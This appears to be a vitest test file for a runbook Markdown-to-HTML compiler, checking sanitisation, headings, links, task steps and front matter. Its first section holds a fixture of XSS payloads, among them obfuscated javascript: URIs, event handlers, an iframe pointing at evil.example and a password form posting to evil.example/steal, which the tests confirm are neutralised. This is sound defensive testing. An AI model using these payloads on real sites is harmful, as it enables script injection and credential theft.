import { describe, expect, it } from 'vitest'
import { compileRunbook } from './compile'
import { executableFindings, parseFragment } from '../../build/runbooks/test-html'

const page = (html: string) => parseFragment(html)

describe('compileRunbook: hostile Markdown', () => {
  const hostile = [
    '---',
    'title: Hostile',
    '---',
    '',
    'Before the attack.',
    '',
    'Inline <script>alert(1)</script> script.',
    '',
    '<script>',
    'alert(2)',
    '</script>',
    '',
    '<img src="x" onerror="alert(3)">',
    '',
    '<p><img src=x onerror=alert(4)></p>',
    '',
    '<a href="javascript:alert(5)">plain js</a> <a href="JaVaScRiPt:alert(6)">mixed case</a>',
    '',
    '<a href="&#106;avascript:alert(7)">entity</a> <a href="&#x6A;&#x61;vascript&colon;alert(8)">hex entity</a> <a href="java&#x09;script:alert(9)">tab</a>',
    '',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxMCk8L3NjcmlwdD4=">data link</a> <a href="vbscript:msgbox(11)">vb</a>',
    '',
    '<svg onload="alert(12)"><circle r="4"/></svg>',
    '',
    '<div><svg><script>alert(13)</script></svg></div>',
    '',
    '<iframe src="https://evil.example/"></iframe>',
    '',
    '<p style="position:fixed;top:0">styled</p> <span style="color:red">red</span>',
    '',
    '<form action="https://evil.example/steal"><input name="password"><button formaction="javascript:alert(14)">Go</button></form>',
    '',
    '<details open><summary onclick="alert(15)">More</summary><object data="x.swf"></object><embed src="x.swf"></details>',
    '',
    '<div><a href="//evil.example/">protocol relative</a><img src="data:image/png;base64,AAAA"><img src="javascript:alert(16)"></div>',
    '',
    '<div><button class="copy-code" onclick="alert(17)">fake control</button><h2 id="impact">fake anchor</h2></div>',
    '',
    '<style>body { display: none }</style>',
    '',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(18)"> <base href="https://evil.example/"> <link rel="stylesheet" href="x.css">',
    '',
    '[markdown js](javascript:alert(19)) [markdown JS](JAVASCRIPT:alert(20)) [markdown data](data:text/html,hi) [markdown vb](vbscript:x)',
    '',
    '![image data](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=) ![image js](javascript:alert(21))',
    '',
    '<math><mi xlink:href="javascript:alert(22)">x</mi></math>',
    '',
    '<javascript:alert(25)> [spaced](  javascript:alert(26)) [angled](<javascript:alert(27)>) <a href=" &#14; javascript:alert(28)">ctl</a> <a href="jav&NewLine;ascript:alert(29)">nl</a>',
    '',
    '<!-- <script>alert(23)</script> -->',
    '',
    '## Impact',
    '',
    'After the attack, still **rendered**.',
    '',
    '- [ ] A step <img src=x onerror=alert(24)>',
  ].join('\n')
  const runbook = compileRunbook(hostile, 'hostile.md')

  it('leaves nothing executable in the HTML', () => {
    expect(executableFindings(runbook.html)).toEqual([])
    expect(runbook.html).not.toMatch(/<script|<iframe|<svg|<style|<object|<embed|<form|<input|<meta|<base|<link|<math/i)
    // Inside real tags only: the escaped source shown as text may well contain `onload=`.
    expect(runbook.html).not.toMatch(/<[^>]*\son[a-z]+\s*=/i)
    expect(runbook.html).not.toMatch(/<[^>]*\sstyle\s*=/i)
    expect(runbook.html).not.toMatch(/<[^>]*\s(href|src)\s*=\s*"\s*(javascript|data|vbscript)/i)
  })

  it('keeps the rest of the page', () => {
    const doc = page(runbook.html)
    expect(doc.textContent).toContain('Before the attack.')
    expect(doc.textContent).toContain('After the attack, still rendered.')
    expect(doc.querySelector('strong')?.textContent).toBe('rendered')
    expect(doc.querySelector('h2#impact')?.textContent).toBe('Impact')
    expect(doc.querySelector('details summary')?.textContent).toBe('More')
    expect(runbook.steps).toEqual([
      { index: 0, id: expect.any(String) as string, text: expect.stringContaining('A step') as string, checked: false },
    ])
  })

  it('shows an unknown tag as the text the author typed', () => {
    const doc = page(runbook.html)
    expect(doc.textContent).toContain('<script>alert(1)</script>')
    expect(doc.textContent).toContain('<iframe src="https://evil.example/"></iframe>')
    expect(doc.textContent).toContain('[markdown js](javascript:alert(19))')
  })

  it('keeps the links but drops dangerous targets', () => {
    const anchors = Array.from(page(runbook.html).querySelectorAll('a'))
    expect(anchors.map((a) => a.textContent)).toEqual(
      expect.arrayContaining([
        'plain js',
        'mixed case',
        'entity',
        'hex entity',
        'tab',
        'data link',
        'vb',
        'protocol relative',
        'ctl',
        'nl',
      ]),
    )
    for (const a of anchors) expect(a.getAttribute('href')).toBeNull()
  })

  it('keeps the compiler-made controls and anchors only: hand-written ones are inert', () => {
    const doc = page(runbook.html)
    expect(doc.querySelectorAll('button.copy-code')).toHaveLength(0)
    expect(doc.querySelectorAll('[id="impact"]')).toHaveLength(1)
    expect(doc.querySelector('h2#impact')?.textContent).toBe('Impact')
    expect(doc.textContent).toContain('fake control')
  })

  it("gives tabindex only to the compiler's code blocks, never to hand-written ones", () => {
    const own = compileRunbook('<pre tabindex="0">hand</pre>\n\n<div tabindex="0">x</div>\n', 'own.md')
    expect(own.html).toContain('hand')
    expect(own.html).not.toMatch(/tabindex/)
  })

  it('drops HTML comments', () => {
    expect(runbook.html).not.toContain('alert(23)')
  })
})

describe('compileRunbook: structure', () => {
  it('shows Hugo shortcodes as literal text', () => {
    const { html, text } = compileRunbook(
      'Intro\n\n{{< hint warning >}}\nCareful\n{{< /hint >}}\n\n{{% notice note %}}Be calm{{% /notice %}}\n\nSee [x]({{< ref "./other.md" >}})\n',
      'shortcodes.md',
    )
    const body = page(html).textContent
    expect(body).toContain('{{< hint warning >}}')
    expect(body).toContain('{{< /hint >}}')
    expect(body).toContain('{{% notice note %}}Be calm{{% /notice %}}')
    expect(body).toContain('[x]({{< ref "./other.md" >}})')
    expect(text).toContain('Careful')
  })

  it('gives headings unique slug ids and a level 2–3 table of contents', () => {
    const source = [
      '# Title',
      '',
      '## Check the switch',
      '',
      '### Check the switch',
      '',
      '## Check the switch',
      '',
      '#### Deep',
      '',
      '## Café & Ops!',
      '',
      '## ',
      '',
    ].join('\n')
    const runbook = compileRunbook(source, 'toc.md')
    expect(runbook.toc).toEqual([
      { level: 2, id: 'check-the-switch', text: 'Check the switch' },
      { level: 3, id: 'check-the-switch-1', text: 'Check the switch' },
      { level: 2, id: 'check-the-switch-2', text: 'Check the switch' },
      { level: 2, id: 'cafe--ops', text: 'Café & Ops!' },
      { level: 2, id: 'section', text: '' },
    ])
    expect(runbook.headings.map((h) => h.level)).toEqual([2, 3, 2, 4, 2, 2])
    const ids = Array.from(page(runbook.html).querySelectorAll('[id]')).map((el) => el.id)
    expect(new Set(ids).size).toBe(ids.length)
    for (const heading of runbook.headings)
      expect(page(runbook.html).querySelector(`[id="${heading.id}"]`)).not.toBeNull()
  })

  it('does not repeat a leading h1 that matches the title, but keeps a different one', () => {
    const same = compileRunbook(
      '---\ntitle: Kube Pod Crash Looping\n---\n# KubePodCrashLooping\n\n## Meaning\n',
      'k.md',
    )
    expect(page(same.html).querySelector('h1')).toBeNull()
    expect(same.text).toContain('KubePodCrashLooping')
    const different = compileRunbook('---\ntitle: Switch down\n---\n# Before you start\n\ntext\n', 's.md')
    expect(page(different.html).querySelector('h1')?.textContent).toBe('Before you start')
  })

  it('wraps tables in a focusable, labelled scroll region and aligns cells with classes', () => {
    const one = compileRunbook('| Port | State |\n|:--|--:|\n| Gi1/0/1 | up |\n', 'table.md')
    const region = page(one.html).querySelector('div.table-scroll')
    expect(region?.getAttribute('tabindex')).toBe('0')
    expect(region?.getAttribute('role')).toBe('region')
    expect(region?.getAttribute('aria-label')).toBe('Table')
    expect(region?.querySelector('table th.align-right')?.textContent).toBe('State')
    const two = compileRunbook('| a |\n|---|\n| 1 |\n\ntext\n\n| b |\n|---|\n| 2 |\n', 'tables.md')
    const labels = Array.from(page(two.html).querySelectorAll('div.table-scroll')).map((el) =>
      el.getAttribute('aria-label'),
    )
    expect(labels).toEqual(['Table 1', 'Table 2'])
  })

  it('wraps code blocks with a copy button and no inline script', () => {
    const runbook = compileRunbook(
      '```sh\nshow interfaces status\n```\n\n    ping 10.0.0.1\n\nInline `code` stays inline.\n',
      'code.md',
    )
    const blocks = Array.from(page(runbook.html).querySelectorAll('div.code-block'))
    expect(blocks).toHaveLength(2)
    for (const block of blocks) {
      const button = block.querySelector('button.copy-code')
      expect(button?.getAttribute('type')).toBe('button')
      expect(button?.hasAttribute('data-copy')).toBe(true)
      expect(button?.getAttribute('aria-label')).toBe('Copy code')
      expect(block.querySelector('pre code')).not.toBeNull()
      // Scrollable sideways, so it must take keyboard focus.
      expect(block.querySelector('pre')?.getAttribute('tabindex')).toBe('0')
    }
    expect(blocks[0]?.querySelector('code')?.className).toBe('language-sh')
    expect(blocks[0]?.querySelector('code')?.textContent).toBe('show interfaces status\n')
    expect(page(runbook.html).querySelectorAll('p code')).toHaveLength(1)
  })

  it('rewrites links to other runbooks to app routes and marks external links', () => {
    const source = [
      '[a](./campus-network-outage.md) [b](campus-network-outage.md#who-to-call) [c](../network/switch-down.md)',
      '[d](sub/deep.MD?x=1#Step-2) [e](../../outside.md) [f](https://vendor.example/support) [g](#local) [h](/docs/x)',
      '[i](mailto:helpdesk@district.example) [j](tel:+15551234567) [k](missing.md) <a href="./campus-network-outage.md">raw</a>',
    ].join('\n')
    const runbook = compileRunbook(source, 'incident/switch-down.md', {
      knownIds: new Set(['incident/campus-network-outage', 'network/switch-down', 'incident/sub/deep']),
    })
    const hrefs = Object.fromEntries(
      Array.from(page(runbook.html).querySelectorAll('a')).map((a) => [a.textContent, a.getAttribute('href')]),
    )
    expect(hrefs).toEqual({
      a: '/runbooks/incident/campus-network-outage',
      b: '/runbooks/incident/campus-network-outage#who-to-call',
      c: '/runbooks/network/switch-down',
      d: '/runbooks/incident/sub/deep#Step-2',
      e: '../../outside.md',
      f: 'https://vendor.example/support',
      g: '#local',
      h: '/docs/x',
      i: 'mailto:helpdesk@district.example',
      j: 'tel:+15551234567',
      k: '/runbooks/incident/missing',
      raw: '/runbooks/incident/campus-network-outage',
    })
    const external = page(runbook.html).querySelector('a[href^="https:"]')
    expect(external?.getAttribute('rel')).toBe('noopener noreferrer')
    expect(external?.getAttribute('target')).toBe('_blank')
    expect(page(runbook.html).querySelector('a[href="#local"]')?.hasAttribute('target')).toBe(false)
    expect(runbook.warnings).toEqual(
      expect.arrayContaining([
        expect.stringContaining('outside the runbooks folder'),
        expect.stringContaining('does not exist (incident/missing)'),
      ]),
    )
  })

  it('turns task-list items into indexed steps with toggle buttons', () => {
    const source = [
      '## Do this',
      '',
      '- [ ] Ping the core `ping 10.0.0.1`',
      '- [x] Tell the **front office**',
      '  - [ ] Nested step',
      '- Not a step',
      '',
      '1. [X] Numbered step',
      '',
    ].join('\n')
    const runbook = compileRunbook(source, 'steps.md')
    expect(runbook.steps).toEqual([
      { index: 0, id: 'do-this/ping-the-core-ping-10-0-0-1', text: 'Ping the core ping 10.0.0.1', checked: false },
      { index: 1, id: 'do-this/tell-the-front-office', text: 'Tell the front office', checked: true },
      { index: 2, id: 'do-this/nested-step', text: 'Nested step', checked: false },
      { index: 3, id: 'do-this/numbered-step', text: 'Numbered step', checked: true },
    ])
    expect(runbook.stepCount).toBe(4)
    const doc = page(runbook.html)
    const items = Array.from(doc.querySelectorAll('li.step'))
    expect(items.map((li) => li.getAttribute('data-step'))).toEqual(['0', '1', '2', '3'])
    items.forEach((li, i) => {
      const button =
        li.querySelector(':scope > button.step-toggle, :scope > p > button.step-toggle') ??
        li.querySelector('button.step-toggle')
      expect(button?.getAttribute('type')).toBe('button')
      expect(button?.getAttribute('data-step')).toBe(String(i))
      expect(button?.getAttribute('aria-label')).toBe(`Step ${i + 1} done`)
      const describedBy = button?.getAttribute('aria-describedby') ?? ''
      expect(doc.querySelector(`[id="${describedBy}"]`)?.textContent).toContain(
        runbook.steps[i]?.text.split(' ')[0] ?? '?',
      )
    })
    expect(items.map((li) => li.querySelector('button')?.getAttribute('aria-pressed'))).toEqual([
      'false',
      'true',
      'false',
      'true',
    ])
    expect(doc.textContent).not.toContain('[ ]')
    expect(doc.textContent).toContain('Not a step')
  })

  it('produces plain text for search, capped', () => {
    const long = `# Big\n\n${'word '.repeat(10_000)}\n\n\`\`\`\nshow vlan brief\n\`\`\`\n`
    const runbook = compileRunbook(long, 'big.md')
    expect(runbook.text.length).toBeLessThanOrEqual(20_000)
    expect(compileRunbook('Para\n\n```\nshow vlan brief\n```\n', 'c.md').text).toContain('show vlan brief')
  })
})

describe('compileRunbook: front matter', () => {
  it('reads title, summary, tags (list), updated and ignores Hugo keys', () => {
    const runbook = compileRunbook(
      [
        '---',
        'title: "DHCP scope exhausted"',
        "summary: 'Devices get no address'",
        'tags:',
        '  - network',
        '  - dhcp',
        'updated: 2026-03-01',
        'weight: 20',
        'menu:',
        '  after:',
        '    weight: -100',
        'aliases:',
        '  - /old/',
        'bookHidden: true',
        '---',
        '',
        'Body',
      ].join('\n'),
      'dhcp.md',
    )
    expect(runbook).toMatchObject({
      id: 'dhcp',
      title: 'DHCP scope exhausted',
      summary: 'Devices get no address',
      tags: ['network', 'dhcp'],
      updated: '2026-03-01',
      warnings: [],
    })
  })

  it('reads tags as a flow list or a comma string', () => {
    expect(compileRunbook('---\ntitle: A\ntags: [wifi, "802.1X", radius]\n---\n', 'a.md').tags).toEqual([
      'wifi',
      '802.1X',
      'radius',
    ])
    expect(compileRunbook('---\ntitle: A\ntags: wifi, radius ,, Wifi\n---\n', 'a.md').tags).toEqual(['wifi', 'radius'])
  })

  it('reads TOML front matter', () => {
    const runbook = compileRunbook(
      '+++\ntitle = "Bells down"\ntags = ["bells"]\nupdated = "2026-02-02"\n[menu]\nx = 1\n+++\nBody',
      'bells.md',
    )
    expect(runbook).toMatchObject({ title: 'Bells down', tags: ['bells'], updated: '2026-02-02' })
  })

  it('falls back to the first # heading, then the file name', () => {
    expect(compileRunbook('# etcdNoLeader\n\n## Meaning\n', 'etcd/etcdNoLeader.md').title).toBe('etcdNoLeader')
    const fromFile = compileRunbook('Just text.', 'network/switch-down.md')
    expect(fromFile.title).toBe('Switch down')
    expect(fromFile.warnings[0]).toContain('no title')
    expect(compileRunbook('---\nbookHidden: true\n---\n', 'runbooks/node/_index.md').title).toBe('Node')
  })

  it('survives broken front matter with a warning', () => {
    const unclosed = compileRunbook('---\ntitle: Oops\n\n# Real title\n\nBody', 'broken.md')
    expect(unclosed.title).toBe('Broken')
    expect(unclosed.warnings.join(' ')).toContain('never closed')
    const garbage = compileRunbook(
      '---\ntitle: Fine\n: nope\n  indented: ignored\nupdated: 2026-02-30\n---\nBody',
      'garbage.md',
    )
    expect(garbage.title).toBe('Fine')
    expect(garbage.updated).toBeNull()
    expect(garbage.warnings).toEqual([expect.stringContaining('line 3'), expect.stringContaining('not a date')])
  })

  it('summarises from the first paragraph when there is no summary', () => {
    expect(compileRunbook('# T\n\nThe first paragraph explains.\n\nSecond.', 't.md').summary).toBe(
      'The first paragraph explains.',
    )
    expect(compileRunbook('---\ntitle: T\ndescription: From Hugo\n---\nText', 't.md').summary).toBe('From Hugo')
  })

  it('makes ids from paths: lowercased, slashes kept, only the id alphabet', () => {
    expect(compileRunbook('x', 'Network/Switch-Down.md').id).toBe('network/switch-down')
    expect(compileRunbook('x', 'runbooks\\node\\NodeRAIDDegraded.md').id).toBe('runbooks/node/noderaiddegraded')
    expect(compileRunbook('x', 'wifi auth (802.1X).md').id).toBe('wifi-auth--802.1x-')
    expect(() => compileRunbook('x', '../escape.md')).toThrow(/runbook id/)
  })
})

describe('compileRunbook: step ids', () => {
  it('derives each step id from its section and text, the same in every version, repeats numbered', () => {
    const v1 = [
      '# Title',
      '',
      '- [ ] Before any section',
      '## Power',
      '',
      '- [ ] Check the UPS',
      '- [ ] Check the UPS',
      '## Réseau',
      '',
      '- [ ] Ping it',
      '',
    ].join('\n')
    const ids = compileRunbook(v1, 'ids.md').steps.map((s) => s.id)
    expect(ids).toEqual(['before-any-section', 'power/check-the-ups', 'power/check-the-ups-2', 'reseau/ping-it'])
    // A step added above keeps the others' ids, though their positions move.
    const v2 = v1.replace('## Power\n\n', '## Power\n\n- [ ] New first step\n')
    const after = compileRunbook(v2, 'ids.md').steps
    expect(after.find((s) => s.text === 'Ping it')).toMatchObject({ index: 4, id: 'reseau/ping-it' })
  })
})
